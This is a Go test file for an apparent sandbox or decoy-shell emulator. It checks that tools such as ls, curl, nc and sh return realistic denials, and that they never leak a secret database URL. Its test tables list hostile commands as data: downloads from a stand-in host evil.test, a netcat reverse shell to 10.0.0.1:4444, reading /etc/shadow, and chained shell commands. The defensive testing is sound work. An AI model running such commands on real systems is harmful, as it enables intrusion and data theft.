package face

import (
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
)

type played struct {
	out, err string
	code     int
}

func play(name, in string, quiet bool, args ...string) played {
	var out, errs strings.Builder
	has := []string{"/app", "/usr/bin/ls", "/etc/passwd", "/work", "/work/x.py"}
	code := Play(Call{Name: name, Args: args, Quiet: quiet, World: World{
		Cwd: "/work", UID: 65532, GID: 65532, Groups: []int{65532, 7}, PID: 17, Host: "web-1", Release: "6.12.0", Machine: "x86_64",
		Environ: []string{"PATH=/usr/bin", "DATABASE_URL=postgres://secret", "HOME=/home/nonroot"},
		Now:     time.Date(2026, 11, 22, 18, 0, 0, 0, time.UTC),
		In:      strings.NewReader(in), Out: &out, Err: &errs,
		List: func(dir string) ([]string, error) {
			if dir == "/root" {
				return nil, errors.New("permission denied")
			}
			return []string{"b", ".hidden", "a"}, nil
		},
		Open: func(file string) (io.ReadCloser, error) {
			return io.NopCloser(strings.NewReader("<" + file + ">")), nil
		},
		Exists: func(file string) bool { return slices.Contains(has, file) },
	}})
	return played{out.String(), errs.String(), code}
}

func TestDenied(t *testing.T) {
	for line, want := range map[string]played{
		"ls":                               {"", "ls: cannot open directory '.': Permission denied\n", 2},
		"ls -l /root /etc":                 {"", "ls: cannot open directory '/root': Permission denied\nls: cannot open directory '/etc': Permission denied\n", 2},
		"cat /etc/shadow":                  {"", "cat: /etc/shadow: Permission denied\n", 1},
		"id":                               {"uid=65532 gid=65532 groups=65532,7\n", "", 0},
		"id -u":                            {"65532\n", "", 0},
		"id root":                          {"", "id: 'root': no such user\n", 1},
		"whoami":                           {"", "whoami: cannot find name for user ID 65532\n", 1},
		"uname":                            {"Linux\n", "", 0},
		"uname -a":                         {"Linux web-1 6.12.0 #1 SMP PREEMPT_DYNAMIC x86_64 GNU/Linux\n", "", 0},
		"env":                              {"PATH=/usr/bin\nHOME=/home/nonroot\n", "", 0},
		"env A=b ls":                       {"", "env: ‘ls’: Permission denied\n", 126},
		"env nosuch":                       {"", "env: ‘nosuch’: No such file or directory\n", 127},
		"ps aux":                           {"", "Error, do this: mount -t proc proc /proc\n", 1},
		"wget -qO- http://evil.test/x":     {"", "", 4},
		"wget evil.test":                   {"", "--2026-11-22 18:00:00--  http://evil.test/\nResolving evil.test (evil.test)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘evil.test’\n", 4},
		"wget":                             {"", "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", 1},
		"curl -o /tmp/x https://evil.test": {"", "curl: (6) Could not resolve host: evil.test\n", 6},
		"curl -fsSL https://evil.test/a.s": {"", "curl: (6) Could not resolve host: evil.test\n", 6},
		"curl -s 10.0.0.1:9":               {"", "", 7},
		"curl http://10.0.0.1:9/":          {"", "curl: (7) Failed to connect to 10.0.0.1 port 9 after 0 ms: Could not connect to server\n", 7},
		"curl":                             {"", "curl: try 'curl --help' or 'curl --manual' for more information\n", 2},
		"nc 10.0.0.1 4444 -e /bin/sh":      {"", "nc: connect to 10.0.0.1 port 4444 (tcp) failed: Network is unreachable\n", 1},
		"nc -lvp 4444":                     {"", "nc: Permission denied\n", 1},
		"ncat evil.test 1":                 {"", "Ncat: Could not resolve hostname \"evil.test\": Temporary failure in name resolution. QUITTING.\n", 2},
		"socat - tcp:10.0.0.1:1,a":         {"", "2026/11/22 18:00:00 socat[17] E connect(5, AF=2 10.0.0.1:1, 16): Network is unreachable\n", 1},
		"ssh -p 2222 u@10.0.0.1":           {"", "ssh: connect to host 10.0.0.1 port 2222: Network is unreachable\n", 255},
		"scp a u@evil.test:b":              {"", "ssh: Could not resolve hostname evil.test: Temporary failure in name resolution\nscp: Connection closed\n", 255},
		"python3 x.py":                     {"", "python3: can't open file '/work/x.py': [Errno 13] Permission denied\n", 2},
		"python3 y.py":                     {"", "python3: can't open file '/work/y.py': [Errno 2] No such file or directory\n", 2},
		"python3 --version":                {"Python 3.13.5\n", "", 0},
		"perl x.py":                        {"", "Can't open perl script \"x.py\": Permission denied\n", 13},
		"apt-get update":                   {"Reading package lists... Done\n", "E: List directory /var/lib/apt/lists/partial is missing. - Acquire (13: Permission denied)\n", 100},
		"apk add curl":                     {"", "ERROR: Unable to lock database: Permission denied\nERROR: Failed to open apk database: Permission denied\n", 99},
		"tar xzf a.tgz":                    {"", "tar: a.tgz: Cannot open: Permission denied\ntar: Error is not recoverable: exiting now\n", 2},
		"chmod +x /app":                    {"", "chmod: changing permissions of '/app': Operation not permitted\n", 1},
		"chmod +x":                         {"", "chmod: missing operand after ‘+x’\nTry 'chmod --help' for more information.\n", 1},
		"find /work -name x":               {"", "find: ‘/work’: Permission denied\n", 1},
		"kubectl get pods":                 {"", "The connection to the server localhost:8080 was refused - did you specify the right host or port?\n", 1},
		"aws sts get-caller-identity":      {"", "\nCould not connect to the endpoint URL: \"https://sts.us-east-1.amazonaws.com/\"\n", 255},
		"docker ps":                        {"", "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?\n", 1},
		"mysql -u root":                    {"", "mysql: error while loading shared libraries: libc.so.6: cannot open shared object file: Permission denied\n", 127},
		"sh -c ls":                         {"", "sh: 1: ls: Permission denied\n", 126},
		"sh -c nosuch;ls":                  {"", "sh: 1: nosuch: not found\nsh: 1: ls: Permission denied\n", 126},
		"sh -c cd /work;pwd&&nosuch||id|x": {"/work\n", "sh: 1: nosuch: not found\nsh: 1: id: not found\nsh: 1: x: not found\n", 127},
		"bash -c nosuch":                   {"", "bash: line 1: nosuch: command not found\n", 127},
		"bash -lc nosuch":                  {"", "bash: line 1: nosuch: command not found\n", 127},
		"sh x.sh":                          {"", "sh: 0: cannot open x.sh: No such file\n", 127},
		"sh x.py":                          {"", "sh: 0: cannot open x.py: Permission denied\n", 126},
		"ash -c nosuch":                    {"", "ash: nosuch: not found\n", 127},
		"su":                               {"", "su: Authentication failure\n", 1},
	} {
		words := strings.Fields(line)
		if before, script, found := strings.Cut(line, " -c "); found {
			words = append(strings.Fields(before), "-c", script)
		}
		if got := play(words[0], "", false, words[1:]...); got != want {
			t.Errorf("%s:\n got %+v\nwant %+v", line, got, want)
		}
	}
}

func TestQuietDoesTheRealThing(t *testing.T) {
	for line, want := range map[string]played{
		"ls":             {"a\nb\n", "", 0},
		"ls -A /work":    {".hidden\na\nb\n", "", 0},
		"ls /root":       {"", "ls: cannot access '/root': Permission denied\n", 2},
		"cat a /etc/b":   {"</work/a></etc/b>", "", 0},
		"whoami":         {"", "whoami: cannot find name for user ID 65532\n", 1},
		"wget evil.test": play("wget", "", false, "evil.test"),
	} {
		words := strings.Fields(line)
		if got := play(words[0], "", true, words[1:]...); got != want {
			t.Errorf("%s:\n got %+v\nwant %+v", line, got, want)
		}
	}
}

func TestShellReadsItsInput(t *testing.T) {
	got := play("sh", "pwd\necho \"hi\" there\nnosuch | x\nls\nA=1\nexit\nlater\n", false)
	want := played{"/work\nhi there\n", "sh: 3: nosuch: not found\nsh: 3: x: not found\nsh: 4: ls: Permission denied\n", 126}
	if got != want {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

func TestNoFaceShowsASecretOrPanics(t *testing.T) {
	hostile := [][]string{nil, {""}, {"-"}, {"--"}, {"-c"}, {"-c", ""}, {";"}, {"-p"}, {"-f"}, {"="}, {"A=b"}, {"://"}, {"a:b:c:d"}, {"tcp::"}, {"\x00"}, {"-h"}}
	for name := range faces {
		for _, args := range hostile {
			for _, quiet := range []bool{false, true} {
				got := play(name, ";;\n|\n=\n", quiet, args...)
				if strings.Contains(got.out+got.err, "secret") {
					t.Errorf("%s %q shows the environment", name, args)
				}
			}
		}
		if help := play(name, "", false, "--help"); Known(name) && faces[name].help != "" && (help.code != 0 || help.out != faces[name].help) {
			t.Errorf("%s --help: %+v", name, help)
		}
	}
}

func FuzzPlay(f *testing.F) {
	f.Add("sh", "-c a;b&&c||d", "pwd\nexit\n")
	f.Add("curl", "-s http://u@h:1/x?y", "")
	f.Add("tar", "xzf - .", "")
	f.Add("scp", "a@b:c d -P 1", "")
	f.Fuzz(func(t *testing.T, name, args, in string) {
		if got := play(name, in, false, strings.Split(args, " ")...); strings.Contains(got.out+got.err, "postgres") && !strings.Contains(name+args+in, "postgres") {
			t.Errorf("%s %q shows the environment", name, args)
		}
	})
}
